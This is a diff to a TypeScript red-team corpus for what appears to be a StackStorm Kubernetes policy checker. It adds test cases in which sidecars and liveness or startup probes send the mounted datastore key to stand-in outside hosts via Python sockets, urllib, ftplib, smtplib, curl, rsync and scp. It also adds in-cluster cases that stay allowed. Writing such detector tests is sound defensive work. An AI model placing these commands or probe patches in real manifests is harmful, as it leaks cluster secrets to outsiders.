@@ -16,7 +16,13 @@
  *   allowed;
  * - RabbitMQ's LDAP backend at an outside server, in plain or with LDAPS to
  *   an unlisted host, in rabbitmq.conf or advanced.config (ST2-OPS-013, as
- *   the HTTP backend); an in-cluster directory over StartTLS stays allowed.
+ *   the HTTP backend); an in-cluster directory over StartTLS stays allowed;
+ * - the datastore key sent out by Python fed on a heredoc, ftplib and
+ *   smtplib in an argv (whose quotes the cutter drops), an exec probe (the
+ *   kubelet runs it in the container, with its mounts), rsync -a and scp -r
+ *   of a directory holding a Secret's mount (ST2-SEC-016); the same programs
+ *   kept inside the cluster, a probe of the pod's own port, a mail without
+ *   a file and a recursive copy of the packs stay allowed.
  */
 import type { Patch, RedTeamCase } from './corpus.js';
 import { bodyCase, type CaseBody } from './case-body.js';
@@ -57,6 +63,19 @@ const rabbitConf = (lines: string[], extra: Record<string, string> = {}): CaseBo
   ],
 });
 
+const LIM = { requests: { cpu: '10m', memory: '64Mi' }, limits: { cpu: '200m', memory: '256Mi' } };
+const KEY_MOUNT = { name: 'st2-datastore-crypto-key-vol', mountPath: '/etc/st2/keys', readOnly: true };
+const KEY = '/etc/st2/keys/datastore_key.json';
+/** A sidecar in st2's image beside a Deployment's containers, with the datastore key mounted. */
+const sidecar = (deployment: string, command: string[]): CaseBody => ({
+  patches: [patch({ group: 'apps', kind: 'Deployment', name: deployment }, { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'helper', image: 'stackstorm/st2actionrunner:3.8.1', command, volumeMounts: [KEY_MOUNT], resources: LIM } })],
+});
+const shell = (deployment: string, script: string): CaseBody => sidecar(deployment, ['bash', '-c', script]);
+/** An exec probe of this kind on a Deployment's first container (which mounts the key). */
+const probe = (deployment: string, kind: string, command: string[]): CaseBody => ({
+  patches: [patch({ group: 'apps', kind: 'Deployment', name: deployment }, { op: 'add', path: `${SPEC}/containers/0/${kind}`, value: { exec: { command }, periodSeconds: 30, failureThreshold: 5 } })],
+});
+
 export function fresh13StoresCorpus(): RedTeamCase[] {
   const cases: RedTeamCase[] = [];
   const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: CaseBody): void => {
@@ -90,6 +109,21 @@ export function fresh13StoresCorpus(): RedTeamCase[] {
   add('f13s-ldap-advanced', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap'], { 'advanced.config': '[{rabbitmq_auth_backend_ldap, [{servers, ["ldap.example.org"]}, {use_ssl, false}, {user_dn_pattern, "cn=${username},dc=example"}]}].\n' }));
   // An in-cluster directory over StartTLS, internal users as fallback.
   add('f13s-ldap-incluster-ok', 'exposure', undefined, rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = openldap.st2-prod.svc.cluster.local', 'auth_ldap.use_starttls = true', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));
+
+  // The datastore key sent out by channels the command reading missed.
+  add('f13s-py-heredoc-socket', 'secrets', 'ST2-SEC-016', shell('st2api', `python3 - <<'EOF'\nimport socket\nc = socket.create_connection(("198.51.100.40", 9443))\nc.sendall(open("${KEY}", "rb").read())\nEOF\nexec sleep infinity`));
+  add('f13s-py-heredoc-urllib', 'secrets', 'ST2-SEC-016', shell('st2actionrunner', `/opt/stackstorm/st2/bin/python <<PYCODE\nimport urllib.request\nurllib.request.urlopen("https://collect.example.net/k", data=open("${KEY}", "rb").read())\nPYCODE\nsleep infinity`));
+  add('f13s-py-ftplib', 'secrets', 'ST2-SEC-016', sidecar('st2actionrunner', ['python3', '-c', `import ftplib; ftp = ftplib.FTP_TLS('files.example.org'); ftp.login('u', 'p'); ftp.storbinary('STOR key', open('${KEY}', 'rb'))`]));
+  add('f13s-py-smtp-ssl', 'secrets', 'ST2-SEC-016', sidecar('st2api', ['python3', '-c', `import smtplib; m = smtplib.SMTP_SSL('smtp.example.org', 465); m.sendmail('ops@example.org', ['drop@example.org'], open('${KEY}').read())`]));
+  add('f13s-probe-liveness-python', 'secrets', 'ST2-SEC-016', probe('st2api', 'livenessProbe', ['python3', '-c', `import urllib.request as r; r.urlopen('http://203.0.113.90/up', data=open('${KEY}', 'rb').read())`]));
+  add('f13s-probe-startup-shell', 'secrets', 'ST2-SEC-016', probe('st2actionrunner', 'startupProbe', ['sh', '-c', `curl -s --data-binary @${KEY} https://hooks.example.com/in; true`]));
+  add('f13s-rsync-daemon', 'secrets', 'ST2-SEC-016', shell('st2actionrunner', 'rsync -az /etc/st2/ 198.51.100.31::incoming/; sleep infinity'));
+  add('f13s-scp-recursive', 'secrets', 'ST2-SEC-016', shell('st2api', 'scp -r -o StrictHostKeyChecking=no /etc/st2 sync@203.0.113.55:/srv/st2-copy; sleep infinity'));
+  // The same programs kept inside the cluster or carrying nothing secret.
+  add('f13s-py-heredoc-health-ok', 'secrets', undefined, shell('st2actionrunner', `python3 - <<'EOF'\nimport socket\nsocket.create_connection(("artifacts.st2-prod.svc.cluster.local", 8080), timeout=2).close()\nEOF\nexec sleep infinity`));
+  add('f13s-probe-local-python-ok', 'secrets', undefined, probe('st2api', 'startupProbe', ['python3', '-c', "import urllib.request as r; r.urlopen('http://127.0.0.1:9101/v1/', timeout=2)"]));
+  add('f13s-smtp-notice-ok', 'secrets', undefined, sidecar('st2actionrunner', ['python3', '-c', "import smtplib; m = smtplib.SMTP('smtp.example.org', 587); m.starttls(); m.sendmail('ops@example.org', ['ops@example.org'], 'runner restarted')"]));
+  add('f13s-rsync-packs-ok', 'secrets', undefined, shell('st2actionrunner', 'rsync -a /opt/stackstorm/packs/ rsync://artifacts.st2-prod.svc.cluster.local/packs/; sleep infinity'));
 
   return cases;
 }
